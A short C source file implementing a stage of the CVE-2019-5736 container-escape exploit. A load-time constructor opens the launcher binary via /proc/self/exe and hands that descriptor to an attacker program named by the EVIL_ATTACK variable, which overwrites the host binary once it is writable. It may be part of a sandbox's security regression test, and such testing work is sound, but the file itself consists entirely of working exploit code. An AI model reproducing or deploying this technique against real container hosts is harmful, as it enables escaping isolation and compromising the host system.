// CVE-2019-5736: loaded into the launcher when the sandbox makes it execute itself (/proc/self/exe), it keeps
// a descriptor of the launcher's file and hands it to a program that waits until the file can be written.
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void steal_launcher(void) {
  const char* attack = getenv("EVIL_ATTACK");
  if (attack == NULL) return;
  int fd = open("/proc/self/exe", O_RDONLY);
  if (fd < 0) return;
  char number[16];
  snprintf(number, sizeof number, "%d", fd);
  char* argv[] = {(char*)"attack", (char*)"overwrite-descriptor", number, NULL};
  char* envp[] = {NULL};
  execve(attack, argv, envp);
}
